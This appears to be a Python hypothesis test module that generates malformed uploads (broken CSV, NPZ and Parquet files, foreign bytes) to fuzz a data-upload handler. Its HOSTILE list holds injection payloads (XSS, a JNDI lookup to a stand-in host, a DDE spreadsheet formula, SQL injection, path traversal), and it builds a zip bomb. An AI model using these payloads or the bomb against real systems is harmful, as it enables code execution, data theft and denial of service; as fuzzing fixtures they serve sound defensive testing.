"""Malformed uploads made by hypothesis: (name, content) of tables that are wrong in many ways."""

import functools
import io
import zipfile

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import strategies as st

HOSTILE = (
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", '"><svg onload=alert(1)>', "**gap**", "`gap`",
    "[click](javascript:alert(1))", "![pixel](http://beyond.example/pixel.png)", "$\\frac{1}{0}$", ":red[gap]",
    "<a href='http://beyond.example'>gap</a>", "{{7*7}}", "${jndi:ldap://beyond.example/a}", "=1+1",
    '=HYPERLINK("http://beyond.example")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\tgap", "gap\r\nother", "gap\x00",
    "../../../etc/passwd", "..\\..\\windows", "\u202epag", "g\u200bap", "🎯" * 20, "x" * 5000, "", " ",
    "'; DROP TABLE gaps; --", "__proto__",
)  # fmt: skip
"""Text that another program may interpret as more than text."""

NUMBERS = (
    "nan", "NaN", "inf", "-inf", "Infinity", "1e308", "-1e308", "1e400", "1e-320", "-0", "0x1F", "1,5", "1_000", "١٢",
    "1e", "--1", "True", "None", "2024-01-01", "9" * 400, "1j",
)  # fmt: skip
"""Invalid or borderline numbers."""

NAMES = ("gaps.csv",) * 8 + (
    "GAPS.CSV", "../../etc/passwd.csv", "<b>gaps</b>.csv", "![p](http://beyond.example/p.png).csv", "=gaps.csv",
    "g" * 250 + ".csv", ".csv", "gaps\n.csv", "gaps.csv.exe", "gaps", "gaps.tsv", "gaps.txt", "'gaps'.csv", "$x$.csv",
)  # fmt: skip

FOREIGN = (
    b"", b"\0" * 1000, b"\n" * 1000, b"a" * 3_000_000, b"PK\x03\x04" + b"\0" * 100, b"PAR1" * 3, b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n" + b"\0" * 100, b"MZ" + b"\x90" * 50, b"<html><script>alert(1)</script></html>", b'{"a": [1]}',
    b"," * 200_000 + b"\n" + b"1," * 200_000, b'a,b\n"' + b"1" * 200_000,
)  # fmt: skip
"""Contents of other types, and some that would keep a reader busy."""

cells = st.sampled_from(NUMBERS) | st.sampled_from(HOSTILE) | st.floats().map(repr) | st.text(max_size=20)
headers = st.sampled_from(HOSTILE) | st.sampled_from(("a", "b", "gap [eV]", "α (°)")) | st.text(max_size=30)


@st.composite
def texts(draw):
    """A CSV with misplaced cells, names, columns, rows, line ends or encodings."""
    rows, columns = draw(st.sampled_from((60, 120, 60, 49, 1, 0))), draw(st.sampled_from((3, 2, 4, 5, 1)))
    values = np.random.default_rng(draw(st.integers(0, 99))).normal(size=(rows, columns))
    table = [[f"{value:.4g}" for value in row] for row in values]
    for _ in range(draw(st.integers(0, 12)) if rows else 0):
        table[draw(st.integers(0, rows - 1))][draw(st.integers(0, columns - 1))] = draw(cells)
    if draw(st.booleans()):
        j, same = draw(st.integers(0, columns - 1)), draw(cells)
        for row in table:
            row[j] = same
    separator = draw(st.sampled_from((",", ",", ",", ";", "\t", "|")))
    header = [draw(headers) for _ in range(columns)]
    lines = [separator.join(map(_quoted, row)) for row in [header, *table]]
    for odd in draw(st.lists(st.sampled_from(("", "1", "1,2,3,4,5,6,7,8,9", '"', "#")), max_size=2)):
        lines.insert(draw(st.integers(0, len(lines))), odd)
    code = draw(st.sampled_from(("utf-8",) * 8 + ("utf-8-sig", "utf-16", "latin-1", "utf-32")))
    content = draw(st.sampled_from(("\n", "\r\n", "\r"))).join(lines).encode(code, "replace")
    return draw(st.sampled_from(NAMES)), draw(_damaged(content))


def _quoted(cell):
    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in ',"\n\r') else cell


@st.composite
def _damaged(draw, content):
    """Sometimes cut off, or with one byte changed."""
    at, how = draw(st.integers(0, max(0, len(content) - 1))), draw(st.integers(0, 11))
    if not content or how > 1:
        return content
    return content[:at] if how else content[:at] + bytes([content[at] ^ 0x55]) + content[at + 1 :]


@functools.cache
def _bomb():
    """A megabyte that unpacks to more than a gigabyte."""
    buffer, zeros = io.BytesIO(), b"\0" * 2**20
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("bomb.npy", "w") as file:
        for _ in range(1100):
            file.write(zeros)
    return buffer.getvalue()


@st.composite
def arrays(draw):
    """An NPZ with arrays of any kind, pickles, paths for names, headers that promise too much, or a bomb."""
    buffer = io.BytesIO(_bomb() if draw(st.integers(0, 9)) == 0 else b"")
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for key in draw(st.lists(st.sampled_from(("x", "y", "../../x", "<b>y</b>", "=1+1", "z" * 300)), unique=True)):
            shape = draw(st.sampled_from(((60,), (60, 2), (60, 1), (59,), (0,), (), (60, 2, 2), (1, 60))))
            kind = draw(st.sampled_from(("f8", "f4", "f2", "i8", "u1", "?", "c16", "U5", "S5", "M8[s]", "O", "V4")))
            inner = io.BytesIO()
            np.lib.format.write_array(inner, np.arange(np.prod(shape)).reshape(shape).astype("u1").astype(kind))
            archive.writestr(f"{key}.npy", draw(_damaged(inner.getvalue())))
        if draw(st.integers(0, 4)) == 0:
            inner = io.BytesIO()
            head = {"descr": "<f8", "fortran_order": False, "shape": (draw(st.sampled_from((10**18, 3 * 10**9))),)}
            np.lib.format.write_array_header_1_0(inner, head)
            archive.writestr("large.npy", inner.getvalue() + b"\0" * 64)
        if draw(st.booleans()):
            archive.writestr(draw(st.sampled_from(("note.txt", "no.npy", "../../no.npy"))), b"not an array")
    return draw(st.sampled_from(("gaps.npz", "../gaps.npz", "gaps.NPZ"))), draw(_damaged(buffer.getvalue()))


@functools.cache
def _zeros():
    """A column of 60 million equal numbers, which take a few kilobytes."""
    return pa.array(np.zeros(60_000_000))


@st.composite
def columns(draw):
    """A Parquet file with columns of any kind."""
    rows = draw(st.sampled_from((0, 1, 60)))
    kinds = {
        "numbers": pa.array(np.arange(rows, dtype=float) % 7),
        "whole": pa.array(np.arange(rows)),
        "nothing": pa.nulls(rows),
        "words": pa.array(["=1+1"] * rows),
        "lists": pa.array([[1.0, 2.0]] * rows, pa.list_(pa.float64())),
        "pairs": pa.array([{"a": 1}] * rows, pa.struct([("a", pa.int64())])),
        "dates": pa.array([0] * rows, pa.timestamp("s")),
        "bytes": pa.array([b"\xff"] * rows),
        "truth": pa.array([True] * rows),
        "infinite": pa.array(np.full(rows, np.inf)),
        "exact": pa.array([None] * rows, pa.decimal128(20, 2)),
    }
    chosen = [kinds[kind] for kind in draw(st.lists(st.sampled_from(list(kinds)), min_size=1, max_size=5))]
    if draw(st.integers(0, 14)) == 0:
        chosen = [_zeros()] * draw(st.sampled_from((1, 3, 4, 5)))
    buffer = io.BytesIO()
    pq.write_table(pa.table(chosen, names=[f"{draw(headers)}{k}" for k in range(len(chosen))]), buffer)
    return draw(st.sampled_from(("gaps.parquet", "<b>.parquet"))), draw(_damaged(buffer.getvalue()))


foreign = st.tuples(
    st.sampled_from(("t.csv", "t.parquet", "t.npz", "t.xlsx", "t.pkl", "t.pt", "t.tsv", "t")),
    st.sampled_from(FOREIGN) | st.binary(max_size=300),
)
uploads = st.one_of(texts(), texts(), texts(), arrays(), columns(), foreign)
"""(name, content) as a browser would send it."""
